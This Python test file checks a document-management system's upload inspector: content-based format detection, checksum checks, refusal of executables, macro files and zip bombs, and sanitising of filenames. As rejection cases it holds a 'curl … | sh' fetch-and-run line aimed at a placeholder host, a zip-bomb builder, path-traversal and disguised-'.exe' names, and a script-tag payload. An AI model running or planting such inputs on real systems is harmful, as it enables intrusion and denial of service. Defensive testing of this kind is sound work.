"""Attachments are judged by their content: only safe, openable formats pass, and a declared
checksum that differs from the received bytes is refused (EU Annex 11 §5)."""
from __future__ import annotations

import hashlib
import io
import zipfile

import pytest
from docx import Document
from fpdf import FPDF
from PIL import Image

from edms.documents.uploads import (
    CSV,
    DOCX,
    JPEG,
    PDF,
    PNG,
    TEXT,
    TIFF,
    XLSX,
    UploadRejected,
    inspect_upload,
    safe_display_name,
)
from edms.errors import UserError

MiB = 1024 * 1024
LIMITS = {"max_bytes": 20 * MiB, "max_expanded_bytes": 100 * MiB}

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="{part}" ContentType="{content_type}"/>
</Types>"""
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def check(filename: str, data: bytes, **overrides):
    return inspect_upload(filename, data, **{**LIMITS, **overrides})


def refused(filename: str, data: bytes, **overrides) -> str:
    with pytest.raises(UploadRejected) as caught:
        check(filename, data, **overrides)
    return str(caught.value)


def investigation_docx() -> bytes:
    document = Document()
    document.add_heading("Laboratory investigation, lot L2026-0412", level=1)
    document.add_paragraph("Viability 72 % (7-AAD) against a specification of ≥ 80 %; retest 71.4 %.")
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    replace, add = replace or {}, add or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            target.writestr(entry.filename, replace.get(entry.filename, source.read(entry)))
        for name, content in add.items():
            target.writestr(name, content)
    return output.getvalue()


def ooxml(part: str, content_type: str, **parts: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(part=part, content_type=content_type))
        archive.writestr(part.lstrip("/"), "<workbook/>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


def image(kind: str) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(output, format=kind)
    return output.getvalue()


def certificate_pdf() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(0, 10, "Certificate of analysis - lot L2026-0412 - viability 72 %")
    return bytes(pdf.output())


# ---------------------------------------------------------------------------------------------------
# Accepted


@pytest.mark.parametrize(
    ("filename", "make", "media_type"),
    [
        ("CoA L2026-0412.pdf", certificate_pdf, PDF),
        ("flow plot.png", lambda: image("PNG"), PNG),
        ("bag label.jpg", lambda: image("JPEG"), JPEG),
        ("microscopy.tiff", lambda: image("TIFF"), TIFF),
        ("investigation.docx", investigation_docx, DOCX),
        ("trend.xlsx", lambda: ooxml("/xl/workbook.xml", XLSX_MAIN), XLSX),
        ("viability.csv", lambda: b"lot,viability_pct\nL2026-0412,72.0\n", CSV),
        ("メモ.txt", lambda: "\ufeff生存率72%（規格80%以上）。再試験71.4%。\n".encode(), TEXT),
    ],
)
def test_accepted_formats_are_recognised_by_content(filename, make, media_type):
    data = make()
    info = check(filename, data)
    assert info.media_type == media_type
    assert info.size == len(data)
    assert info.sha256 == hashlib.sha256(data).hexdigest()
    assert info.safe_display_name == filename


def test_media_type_comes_from_content_even_without_an_extension():
    assert check("scan", certificate_pdf()).media_type == PDF


@pytest.mark.req("A11-5")
def test_matching_declared_checksum_is_accepted_in_any_letter_case():
    data = certificate_pdf()
    declared = hashlib.sha256(data).hexdigest().upper()
    assert check("coa.pdf", data, declared_sha256=declared).sha256 == declared.lower()


# ---------------------------------------------------------------------------------------------------
# Refused


@pytest.mark.req("A11-5")
def test_declared_checksum_that_differs_from_the_received_bytes_is_refused():
    data = certificate_pdf()
    declared = hashlib.sha256(data + b"\n").hexdigest()

    message = refused("coa.pdf", data, declared_sha256=declared)

    assert "changed in transfer" in message
    assert declared in message and hashlib.sha256(data).hexdigest() in message


@pytest.mark.req("A11-5")
def test_declared_checksum_that_is_not_sha256_is_refused():
    assert "not a SHA-256" in refused("coa.pdf", certificate_pdf(), declared_sha256="d41d8cd98f00b204e9800998ecf8427e")


@pytest.mark.req("A11-5")
def test_oversize_file_is_refused_before_anything_else():
    message = refused("big.pdf", b"%PDF-1.7\n" + bytes(2048), max_bytes=1024)
    assert message == "The file is too large: 2057 bytes; the limit is 1024 bytes."


def test_empty_file_is_refused():
    assert refused("empty.txt", b"") == "The file is empty."


@pytest.mark.req("A11-5")
@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"GIF89a" + bytes(20), "a GIF image"),
        (b"\x1f\x8b\x08\x00" + bytes(20), "a gzip archive"),
        (b"Rar!\x1a\x07\x01\x00" + bytes(20), "a RAR archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "a legacy Microsoft Office file"),
    ],
)
def test_other_formats_are_refused_naming_what_was_detected(data, what):
    message = refused("results.dat", data)
    assert "not accepted" in message and what in message


def test_unrecognised_binary_is_refused_with_its_first_bytes():
    assert "Unrecognised binary content (first bytes 00 01 02 03" in refused("data.bin", bytes(range(16)))


@pytest.mark.req("A11-5")
@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"PE\x00\x00", "Windows executable"),
        (b"\x7fELF\x02\x01\x01\x00" + bytes(56), "Linux executable"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), "macOS executable"),
        (b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n", "interpreter line"),
    ],
)
def test_executables_are_refused_whatever_they_are_called(data, what):
    message = refused("CoA L2026-0412.pdf", data)
    assert message.startswith("Executable files are not accepted") and what in message


@pytest.mark.req("A11-5")
def test_docm_is_refused():
    content_types = CONTENT_TYPES.format(part="/word/document.xml", content_type=DOCM_MAIN).encode()
    docm = rezip(investigation_docx(), replace={"[Content_Types].xml": content_types})
    assert "Macro-enabled Office files (DOCM, XLSM)" in refused("investigation.docm", docm)


@pytest.mark.req("A11-5")
def test_macro_document_renamed_to_docx_is_refused():
    with_macros = rezip(investigation_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})
    assert "contains a VBA project" in refused("investigation.docx", with_macros)


def test_xlsm_is_refused():
    xlsm = ooxml("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert "Macro-enabled" in refused("trend.xlsx", xlsm)


def test_plain_zip_and_other_office_formats_are_refused():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("raw/fcs_001.fcs", b"FCS3.1" + bytes(100))
    assert "ZIP archives are not accepted" in refused("flow_data.zip", output.getvalue())

    pptx = ooxml("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    assert "presentationml" in refused("slides.pptx", pptx)


def build_zip_bomb(expanded: int) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(part="/word/document.xml", content_type=DOCX_MAIN))
        with archive.open("word/document.xml", "w") as part:
            chunk = bytes(MiB)
            for _ in range(expanded // MiB):
                part.write(chunk)
    return output.getvalue()


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    return build_zip_bomb(32 * MiB)  # ~30 KiB on the wire, 32 MiB expanded


@pytest.mark.req("A11-5")
def test_zip_bomb_disguised_as_docx_is_refused_by_compression_ratio(zip_bomb, monkeypatch):
    assert len(zip_bomb) < MiB
    # The verdict comes from the zip directory alone: nothing is decompressed to reach it.
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kwargs: pytest.fail("a member was opened"))

    message = refused("investigation.docx", zip_bomb)

    assert "possible zip bomb" in message and "beyond the limit of 100:1" in message


@pytest.mark.req("A11-5")
def test_zip_whose_declared_content_exceeds_the_expansion_limit_is_refused(zip_bomb):
    declared = sum(entry.file_size for entry in zipfile.ZipFile(io.BytesIO(zip_bomb)).infolist())

    message = refused("investigation.docx", zip_bomb, max_expanded_bytes=8 * MiB)

    assert f"would expand to {declared} bytes, more than the limit of {8 * MiB}" in message


def test_text_must_be_utf8():
    shift_jis = "ロット,生存率\nL2026-0412,72.0\n".encode("shift_jis")
    assert "must be UTF-8" in refused("viability.csv", shift_jis)


def test_markup_is_refused_as_text():
    assert "markup is not accepted" in refused("report.txt", b"<!DOCTYPE html><script>alert(1)</script>")
    assert "markup is not accepted" in refused("chart.txt", b'<svg xmlns="http://www.w3.org/2000/svg"/>')


def test_content_contradicting_the_extension_is_refused():
    message = refused("CoA L2026-0412.pdf", image("PNG"))
    assert message == "The file name ends in .pdf but the content is image/png; rename it or upload the right file."


def test_refusals_are_translatable_user_errors():
    with pytest.raises(UserError) as caught:
        check("big.pdf", bytes(10), max_bytes=1)
    assert caught.value.message == "The file is too large: %(size)d bytes; the limit is %(limit)d bytes."


# ---------------------------------------------------------------------------------------------------
# Display names


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("C:\\Users\\qc\\Desktop\\CoA L2026-0412.pdf", "CoA L2026-0412.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override disguising ".exe"
        ("\x00lot\r\n12.txt", "lot12.txt"),
        ("..", "attachment"),
        ('a<b>:c"d|e?f*.txt', "a_b__c_d_e_f_.txt"),
    ],
)
def test_display_names_are_sanitised(filename, expected):
    assert safe_display_name(filename) == expected


def test_long_display_names_keep_their_extension():
    name = safe_display_name("生存率" * 100 + ".pdf")
    assert len(name) == 120 and name.endswith(".pdf")


def test_path_traversal_name_is_only_a_label():
    data = b"lot,viability_pct\nL2026-0412,72.0\n"
    info = check("../../etc/passwd", data)
    assert info.safe_display_name == "passwd"
    assert "/" not in info.safe_display_name and ".." not in info.safe_display_name
    assert info.sha256 == hashlib.sha256(data).hexdigest()  # what storage is keyed by
